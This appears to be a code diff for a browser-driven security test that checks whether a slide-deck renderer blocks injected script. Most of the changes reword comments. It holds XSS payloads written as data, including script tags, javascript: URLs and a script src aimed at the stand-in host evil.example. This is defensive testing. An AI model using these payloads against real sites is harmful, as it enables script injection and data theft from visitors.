@@ -1,16 +1,16 @@
-/** Attack: a deck without `client:` that tries to run code, to lead elsewhere, or to tell another host what it sees. */
+/** Attack: a deck without `client:` that tries to run code, to redirect the page, or to send data to another host. */
 import type { Page } from 'playwright-core';
 import { attribute, elements, parseHtml } from '../../../server/deck/html/tree.ts';
 import { ask } from '../ask.ts';
 import type { Attack, Context, Target } from '../context.ts';
 
-/** What every vector would set or ask for: a name that is found in bytes, and a host that must never be asked. */
+/** What every vector would set or request: a name to search for, and a host that must never be contacted. */
 const RAN = 'deckRan';
 const HOST = 'evil.example';
 const RUN = `window.${RAN}=1`;
 const STEAL = `https://${HOST}/x`;
 
-/** Each stands on a slide of its own. */
+/** The vectors, each on its own slide. */
 const VECTORS: readonly string[] = [
   `<script>${RUN}</script>`,
   `<script src="${STEAL}.js"></script>`,
@@ -93,22 +93,25 @@ const VECTORS: readonly string[] = [
   `\`\`\`dot\ndigraph { a [label="x" href="javascript:${RUN}"] }\n\`\`\``,
 ];
 
-/** Links and forms lead where a person chooses to go; all else that names the host would ask it by itself. */
+/**
+ * Links and forms are followed only by a person's choice; all other vectors that name the host would contact it by
+ * themselves.
+ */
 const BY_CHOICE = new Set([...VECTORS.keys()].filter((i) => /^(?:<a |<form action)/.test(VECTORS[i] ?? '')));
 
-/** Elements that run something, or change where the page's addresses lead. */
+/** Elements that run something, or that change how the page's addresses resolve. */
 const ACTIVE_ELEMENTS: ReadonlySet<string> = new Set('script base object embed meta link'.split(' '));
 
-/** Addresses that run as a script, in whatever attribute, with what browsers pass over (URL Standard, 4.4). */
+/** Addresses that run as a script, in any attribute, including characters that browsers ignore (URL Standard, 4.4). */
 const SCRIPT_ADDRESS = /(?:^|;)\s*(?:javascript|vbscript):/i;
 
-/** Attributes whose values are text, whatever they say. */
+/** Attributes whose values are always text. */
 const TEXT: ReadonlySet<string> = new Set('title alt id class value'.split(' '));
 
-/** How long a page is left alone on each slide, in milliseconds. */
+/** Milliseconds to stay on each slide. */
 const STAY_MS = 60;
 
-/** Looks into the bytes, then opens the deck in a browser, goes to every slide and clicks what can be clicked. */
+/** Checks the page's HTML, then opens the deck in a browser, goes to every slide and clicks everything there. */
 export const hostileDeck: Attack = {
   name: 'hostile-deck',
   about: `${VECTORS.length} ways of a deck without \`client:\` to run code or ask another host, in the bytes and in a browser`,
@@ -122,7 +125,7 @@ export const hostileDeck: Attack = {
   },
 };
 
-/** What is sent, as a browser's parser reads it. */
+/** Checks the HTML as a browser's parser would read it. */
 async function inBytes(target: Target): Promise<string[]> {
   const { text, headers } = await ask(target.port, '/talk/');
   const findings: string[] = [];
@@ -159,7 +162,7 @@ async function inBrowser(context: Context, target: Target): Promise<string[]> {
   await page.route(/./, (route) => {
     const url = new URL(route.request().url());
     if (url.origin === target.url || !/^https?:$/.test(url.protocol)) return route.continue();
-    // Pictures and frames come from the hosts that the deck itself names: that is its author's to say.
+    // Pictures and frames may come from hosts that the deck names: that is the author's decision.
     const isShown =
       /^(?:image|media|font)$/.test(route.request().resourceType()) || route.request().isNavigationRequest();
     if (!isShown) findings.push(`${route.request().resourceType()} ${url} is asked for ${at}.`);
@@ -171,7 +174,7 @@ async function inBrowser(context: Context, target: Target): Promise<string[]> {
   }, RAN);
   const open = async () => {
     const url = `${target.url}/talk/`;
-    // What a click has begun may come between.
+    // A navigation started by a click may interrupt this one.
     await page.goto(url).catch(() => page.goto(url));
     await page.waitForSelector('.reveal.ready');
   };
@@ -184,7 +187,7 @@ async function inBrowser(context: Context, target: Target): Promise<string[]> {
         Reflect.get(globalThis, 'Reveal').slide(Reflect.get(globalThis, 'Reveal').getIndices(slide).h);
       return slide !== null;
     }, `slide-${i}`);
-    // One that is not closed takes the next slide with it, as CommonMark has it.
+    // A vector that is not closed swallows the next slide, as CommonMark specifies.
     if (!isThere) continue;
     await page.waitForTimeout(STAY_MS);
     if (!page.url().startsWith(`${target.url}/talk/`)) {
@@ -193,7 +196,8 @@ async function inBrowser(context: Context, target: Target): Promise<string[]> {
     }
     if (BY_CHOICE.has(i)) continue;
     at = `by a click on ${JSON.stringify(vector.slice(0, 120))}`;
-    // A click may lead elsewhere on this server, which is for whoever clicks to say; the page is opened anew then.
+    // A click may navigate to other pages of this server, which is the visitor's choice; then the deck is opened
+    // again.
     const stayed = await touch(page)
       .then(() => page.waitForTimeout(STAY_MS))
       .then(() => page.evaluate(() => document.querySelector('.reveal.ready') !== null))
@@ -204,7 +208,7 @@ async function inBrowser(context: Context, target: Target): Promise<string[]> {
   return [...new Set(findings)];
 }
 
-/** Clicks all links and buttons of the present slide that lead nowhere else, and moves over everything. */
+/** Dispatches events on all elements of the current slide, and clicks those that do not link to other hosts. */
 async function touch(page: Page): Promise<void> {
   await page.evaluate(() => {
     const slide = document.querySelector('.slides .present:not(.stack)');
